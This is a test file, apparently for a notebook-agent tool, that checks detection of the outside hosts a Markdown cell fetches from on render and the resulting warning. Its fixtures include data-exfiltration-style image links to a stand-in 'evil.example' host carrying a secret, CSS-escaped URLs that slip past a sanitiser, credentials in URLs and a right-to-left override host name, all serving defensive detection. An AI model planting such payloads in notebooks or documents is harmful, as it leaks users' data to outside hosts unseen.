"""Which hosts a Markdown cell makes the page fetch from when it renders (said in the edit question)."""

from __future__ import annotations

import pytest

from nbagent.notebook.document.fetches import fetch_warning, fetched_hosts


@pytest.mark.parametrize(("markdown", "hosts"), [
    ("![c](https://evil.example/c.png?d=secret)", ["evil.example"]),
    ("![a][r]\n\n[r]: https://ref.example/x.png", ["ref.example"]),
    ('<img src="//proto.example/a">', ["proto.example"]),
    ('<IMG SRC="HTTPS://Upper.Example/x">', ["upper.example"]),
    ('<video poster="http://v.example/p.png"></video>', ["v.example"]),
    ('<div style="background:url(https://css.example/x)">x</div>', ["css.example"]),
    ('<img srcset="a.png 1x, https://ss.example/b.png 2x">', ["ss.example"]),
    # CSS escapes, which JupyterLab's sanitiser keeps and the browser reads (a real page fetched both):
    ('<span style="background-image:url(\\68ttps://esc.example/x?d=s)">a</span>', ["esc.example"]),
    ('<span style="background-image:url(\\2f\\2f esc2.example/y)">b</span>', ["esc2.example"]),
    ("<span style=\"background-image:url('ht\\tps://esc3.example/z')\">c</span>", ["esc3.example"]),
    ("![x](https:noslash.example/x)", ["noslash.example"]),
    ('<img src=" https://user:pw@cred.example/x">', ["cred.example"]),
    ("[a link](https://x.org) is followed only when clicked", []),
    ("![a figure beside the notebook](fig.png) ![and](/files/fig.png)", []),
    ("![inline](data:image/png;base64,AAAA)", []),
], ids=lambda v: str(v)[:30])
def test_the_hosts_a_markdown_cell_loads_from(markdown: str, hosts: list[str]) -> None:
    assert fetched_hosts(markdown) == hosts


def test_the_warning_names_a_few_hosts_escaped() -> None:
    many = " ".join(f"![x](https://h{i}.example/x)" for i in range(5))
    assert "h0.example, h1.example, h2.example and 2 more" in fetch_warning(many)
    assert fetch_warning("# no image") == ""
    assert "\\u202e" in fetch_warning('<img src="https://a\u202egro.example/x">')  # a host shown as it is spelt
